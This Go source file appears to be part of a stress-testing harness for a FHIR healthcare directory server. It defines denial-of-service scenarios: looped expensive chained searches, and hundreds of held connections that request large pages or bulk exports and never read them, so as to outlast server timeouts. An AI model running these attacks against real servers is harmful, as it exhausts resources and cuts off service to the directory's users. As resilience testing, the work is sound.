package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"time"
)

var searchScenarios = []scenario{
	{
		name: "searches", about: "a slow search in a loop, four at a time from each address",
		attack: func(ctx context.Context, a *attacker) {
			parallel(ctx, 4, func(int) {
				if a.send(ctx, http.MethodGet, a.base+"/"+slow(6), "").status != http.StatusOK {
					pause(ctx, 50*time.Millisecond)
				}
			})
		},
	},
	{
		name: "unread-pages", about: "400 connections that ask for pages of 2.6 MB and do not read them",
		attack: func(ctx context.Context, a *attacker) {
			a.hold(ctx, a.share(400), http1, true, func(ctx context.Context, c net.Conn, _ int) string {
				return a.unread(ctx, c, a.base+"/"+bigPage, "")
			})
		},
	},
	{
		name: "unread-downloads", about: "1,000 connections that download a file and do not read it",
		attack: func(ctx context.Context, a *attacker) {
			file := a.wholeExport(ctx)
			a.hold(ctx, a.share(1000), http1, true, func(ctx context.Context, c net.Conn, _ int) string {
				return a.unread(ctx, c, file, "Accept: application/fhir+ndjson\r\nAccept-Encoding: identity\r\n")
			})
		},
	},
}

// slow returns a search that leads through a number of steps, from locations to
// practitioners and back, and narrows nothing. steps is 2 more than a multiple of 4.
func slow(steps int) string {
	var chain strings.Builder
	for n := range steps / 2 {
		if n%2 == 0 {
			chain.WriteString("_has:PractitionerRole:location:practitioner.")
		} else {
			chain.WriteString("_has:PractitionerRole:practitioner:location.")
		}
	}
	return "Location?" + chain.String() + "name:contains=e"
}

// bigPage is a search whose first page has 2.6 MB.
const bigPage = "Organization?address-state=NSW&_revinclude=PractitionerRole:organization&_revinclude=HealthcareService:organization&_revinclude=Location:organization&_revinclude=Provenance:target"

// unreadFor is how long an attacker holds an answer that it does not read. It is longer
// than the time after which the server gives up.
const unreadFor = 70 * time.Second

// unread sends a request, reads the status of the answer, and then nothing.
func (a *attacker) unread(ctx context.Context, c net.Conn, target, header string) string {
	if _, err := io.WriteString(c, a.get(target, header)); err != nil {
		return "closed"
	}
	status := readStatus(c, 45*time.Second)
	if status == "200" {
		a.count("200, unread")
		pause(ctx, unreadFor)
	}
	return status
}

// get returns the bytes of a request for a URL. header has lines that end with CRLF.
func (s *stage) get(target, header string) string {
	u, err := url.Parse(target)
	if err != nil {
		return ""
	}
	return fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n", u.RequestURI(), s.address, header)
}

// readStatus reads the status of an answer and little more.
func readStatus(c net.Conn, patience time.Duration) string {
	_ = c.SetReadDeadline(time.Now().Add(patience))
	begin := make([]byte, len("HTTP/1.1 200"))
	if _, err := io.ReadFull(c, begin); err != nil {
		return "closed"
	}
	return statusOf(begin)
}

// statusOf returns the status of the answer that begins with the bytes.
func statusOf(begin []byte) string {
	rest, ok := bytes.CutPrefix(begin, []byte("HTTP/1.1 "))
	if !ok || len(rest) < 3 {
		return "no HTTP"
	}
	return string(rest[:3])
}
